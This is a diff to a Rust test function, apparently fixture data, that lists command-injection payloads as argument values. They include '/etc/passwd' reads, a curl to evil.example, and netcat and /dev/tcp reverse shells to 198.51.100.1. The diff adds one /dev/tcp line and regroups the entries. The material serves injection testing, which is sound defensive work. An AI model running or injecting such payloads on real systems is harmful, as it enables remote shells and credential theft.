@@ -587,7 +587,6 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("host", "`uname -a`"),
         arg("host", "x || ping -c 10 127.0.0.1"),
         arg("host", "x\nls -la"),
-        arg("host", "{cat,/etc/passwd}"),
         arg("host", "1;/usr/bin/curl http://evil.example/a"),
         arg("host", "x; python3 -c 'import os'"),
         arg("host", "a | nc -e /bin/sh 198.51.100.1 4444"),
@@ -608,11 +607,12 @@ fn attacks() -> Vec<(i64, Req)> {
         arg("q", "x; mkfifo /tmp/f"),
         arg("q", "{cat,/etc/passwd}"),
         arg("q", "x || ping -c 10 127.0.0.1"),
-    ]);
-    add(4230110, vec![
         arg("x", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"),
+        arg("x", "exec 5<>/dev/tcp/198.51.100.1/4444"),
         arg("x", "cat${IFS}/etc/passwd"),
         arg("x", "x$IFS$9id"),
+    ]);
+    add(4230110, vec![
         arg("x", "/bin/bash"),
         arg("x", "nc -e /bin/sh 198.51.100.1 80"),
     ]);
